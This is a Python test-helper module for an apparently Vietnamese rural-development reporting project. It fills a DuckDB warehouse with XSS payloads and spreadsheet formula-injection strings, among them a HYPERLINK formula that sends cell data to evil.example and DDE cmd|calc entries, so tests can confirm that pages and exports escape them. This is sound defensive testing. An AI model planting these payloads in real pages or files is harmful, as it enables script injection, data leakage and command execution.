"""Helpers for the output tests: hostile values and a tiny warehouse that carries them.

The warehouse holds only the contract columns that the report page, the quality report, the
exports and the ``ntm`` reading commands use, with a hostile value in every text column a
submission can fill, so that each output is built from the worst text it could receive.
"""

from __future__ import annotations

import hashlib
from html.parser import HTMLParser
from pathlib import Path

import duckdb

# Markup that runs script if pasted unescaped, in every context a page has: element text,
# a quoted attribute, a <script> element, a link, a template engine's braces.
SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
SINGLE = "'><svg onload=alert(1)>"
END_SCRIPT = "</script><script>document.title='pwned'</script>"
TEMPLATE = "{{7*7}}"
JS_URL = "javascript:alert(document.domain)"
LINK = f'<a href="{JS_URL}">bấm vào đây</a>'
HTML_PAYLOADS = (SCRIPT, ATTRIBUTE, SINGLE, END_SCRIPT, TEMPLATE, LINK)

# Spreadsheet formulas as a district could type them into a name or a note.
FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"bấm\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "Xã A;=HYPERLINK(\"http://evil.example\")", "ghi chú\n=1+1", "'=already quoted",
            '"=1+1"')


def hostile(index: int) -> str:
    """A different mix of every payload for each column, so that a value shown in the wrong
    place can be told apart."""
    parts = [*HTML_PAYLOADS, FORMULAS[index % len(FORMULAS)]]
    return f"{FORMULAS[index % len(FORMULAS)]} Tỉnh {index} " + " ".join(parts)


def sha256(path: Path) -> str:
    """The file's content hash: "unchanged" must mean byte for byte, not same size or time."""
    return hashlib.sha256(path.read_bytes()).hexdigest()


def build_hostile_warehouse(path: Path) -> Path:
    """A warehouse file at ``path`` with hostile text in every submitted text column."""
    h = [hostile(i) for i in range(40)]
    con = duckdb.connect(str(path))
    try:
        con.execute("create schema marts; create schema quality;")
        con.execute("""
            create table marts.dim_admin_unit as select * from (values
              ('20', 'province', $1, null, '20', null::date, date '2025-06-30', 'legacy', true,
               false),
              ('20', 'province', $2, null, '20', date '2025-07-01', null::date, '2025', true,
               false),
              ('188', 'district', $3, '20', '20', null::date, date '2025-06-30', 'legacy', true,
               false),
              ($4, 'commune', $5, '188', '20', null::date, date '2025-06-30', 'legacy', false,
               true))
            as t(unit_code, level, name, parent_code, province_code, valid_from, valid_to,
                 map_era, in_reference, is_rural_commune)""", h[0:5])
        con.execute("""
            create table marts.fct_commune_status_current_map as select * from (values
              (2024, '20', '06532', true, $1))
            as t(year, province_code, commune_code, is_ntm, rule)""", ["=1+1 single"])
        con.execute("""
            create table marts.fct_commune_status as select * from (values
              (2024, '20', '06532', $1, $2, 19, 19, true, true, false, 'legacy', null),
              (2024, '20', '06541', $3, $2, 19, 12, false, false, false, 'legacy', null),
              (2025, '20', '06544', $4, $2, 10, 9, true, false, false, '2025', 2))
            as t(year, province_code, commune_code, commune_name, criteria_set,
                 criteria_count, criteria_met, is_ntm, is_advanced, is_model, map_era,
                 commune_group)""",
                    h[5:9])
        # A group's names come from the project's seed, but they are escaped too.
        con.execute("""
            create table marts.dim_commune_group as select * from (values
              (2, $1, $2, $3)) as t(commune_group, criteria_set, name_vi, name_en)""",
                    [h[6], h[10], h[11]])
        con.execute("""
            create table marts.dim_criterion as select * from (values ($1, 1, $2, 19))
            as t(criteria_set, criterion_no, decision, criteria_count)""", [h[6], h[9]])
        con.execute("""
            create table marts.dim_funding_source as select * from (values
              ('central_budget', '1', $1, $2, false, null),
              ('community_cash', '6.1', $3, $4, true, '6'))
            as t(source_code, b02_code, name_vi, name_en, is_community, part_of_b02_code)""",
                    h[10:14])
        con.execute("""
            create table marts.fct_funding as select * from (values
              (2024, '20', 'province', '20', 'central_budget', false, 1000.0, 'legacy', true),
              (2024, '20', 'province', '20', 'community_cash', true, 250.0, 'legacy', true),
              (2024, '20', 'province', '20', $1, false, -3.0, 'legacy', true),
              (2025, '188', 'district', '20', 'central_budget', false, 2000.0, '2025', true))
            as t(year, unit_code, level, province_code, source_code, is_community,
                 amount_million_vnd, map_era, counts_once)""", [h[14]])
        con.execute("""
            create table marts.fct_ocop_product as select * from (values
              (2024, '188', 'district', '20', '06532', $1, $2, $3, 5,
               date '2024-05-01', 2024, date '2027-05-01', $4, 'legacy'))
            as t(year, unit_code, level, province_code, commune_code, product_name, producer,
                 product_group_name, stars, recognized_on, recognized_year, valid_until,
                 product_key, map_era)""", h[15:19])
        # The certificate in force at the end of 2024 and 2025, as the dbt model lists it.
        con.execute("create schema reporting")
        con.execute("""
            create table reporting.rpt_ocop_in_force as
            select y.year, p.product_key, p.stars, p.product_name, p.producer,
                   p.product_group_name, p.recognized_on, p.valid_until,
                   p.year as listed_year, p.level as listed_by_level,
                   p.unit_code as listed_by, p.province_code, p.map_era
            from marts.fct_ocop_product as p cross join (values (2024), (2025)) as y(year)""")
        con.execute("""
            create table reporting.rpt_province_coverage as select * from (values
              (2024, '20', 'legacy', 'district', 2, 1, 2, 1, false, true, false),
              (2025, '20', '2025', 'province', 1, 1, 1, 1, true, true, true))
            as t(year, province_code, map_era, reporting_level, units_expected, units_with_b01,
                 units_with_b02, units_with_b03, communes_complete, funding_complete,
                 ocop_complete)""")
        con.execute("""
            create table marts.dim_indicator as select * from (values
              ($1, $2, $3, -1))
            as t(indicator_code, name_vi, unit_en, sort_order)""", h[19:22])
        con.execute("""
            create table marts.fct_indicator as select * from (values
              (2024, '20', 'province', '20', $1, 'reported', -3.0, $2),
              (2024, '20', 'province', '20', $1, 'computed', 19.0, $2))
            as t(year, unit_code, level, province_code, indicator_code, value_kind, value,
                 source_file)""", [h[19], h[22]])
        con.execute("""
            create table marts.fct_target as select * from (values
              (2024, '20', 'province', '20', $1, 5.0, -2.0, null::double, true, $2))
            as t(year, unit_code, level, province_code, indicator_code, target, actual,
                 next_year_target, is_template_indicator, source_file)""", [h[19], h[22]])
        con.execute("""
            create table quality.flags as select * from (values
              ($1, 'error', 2024, 'district', '188', $2, $3, -3.0, 4.0, $4, $5, $6, 7, $7,
               'legacy'),
              ($8, $9, 2024, $10, $11, $12, null, null, null, $13, $14, $15, 8, null,
               'legacy'),
              ('OUTLIER', 'warning', 2025, 'province', '20', null, 'TC_X', 1.0, 2.0, $16,
               'f.xlsx', 'B06', 9, 'E', '2025'))
            as t(check_code, severity, year, level, unit_code, unit_name, indicator_code,
                 reported_value, expected_value, message, source_file, sheet, row_number,
                 column_name, map_era)""", h[23:39])
        # The follow-up columns (ntm review): a reviewer's comment is typed text too.
        con.execute("""
            create or replace table quality.flags as select *,
                md5(check_code || coalesce(row_number, 0)) as flag_key,
                case when row_number = 7 then 'explained' else 'open' end as review_status,
                case when row_number = 7 then $1 end as review_comment,
                case when row_number = 7 then $2 end as reviewed_by,
                null::timestamp as reviewed_at, null::varchar as review_note
            from quality.flags""", [h[0], h[1]])
        # A check's label could only come from the project's seed, but it is escaped too.
        con.execute("""
            create table quality.checks as select * from (values
              ('OUTLIER', $1, 'outlier'))
            as t(check_code, label_vi, label_en)""", [h[3]])
        con.execute("""
            create table quality.submissions as select * from (values
              (2024, 'province', '20', 'current', $1),
              (2025, 'province', '20', 'current', 'b.xlsx'))
            as t(year, level, unit_code, status, source_file)""", [h[39]])
        con.execute("""
            create table quality.completeness as select * from (values
              (2024, 'province', '20', '20', $1, true, false, date '2025-02-03', $2),
              (2025, 'district', '188', '20', $3, false, false, null, null))
            as t(year, level, unit_code, province_code, unit_name, received, on_time,
                 signed_on, source_file)""", h[0:3])
    finally:
        con.close()
    return path


class Document(HTMLParser):
    """Every start tag with its attributes, every <script> with its text, and the page's
    text outside scripts and styles (entities decoded: what a reader sees)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.scripts: list[tuple[dict[str, str | None], str]] = []
        self.text: list[str] = []
        self._raw: str | None = None
        self._raw_attrs: dict[str, str | None] = {}
        self._raw_text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag in ("script", "style"):
            self._raw, self._raw_attrs, self._raw_text = tag, dict(attrs), []

    def handle_endtag(self, tag: str) -> None:
        if tag == self._raw:
            if tag == "script":
                self.scripts.append((self._raw_attrs, "".join(self._raw_text)))
            self._raw = None

    def handle_data(self, data: str) -> None:
        (self._raw_text if self._raw else self.text).append(data)


def parse(page: str) -> Document:
    """``page`` as a browser's parser splits it, so checks see tags, not substrings."""
    doc = Document()
    doc.feed(page)
    doc.close()
    return doc
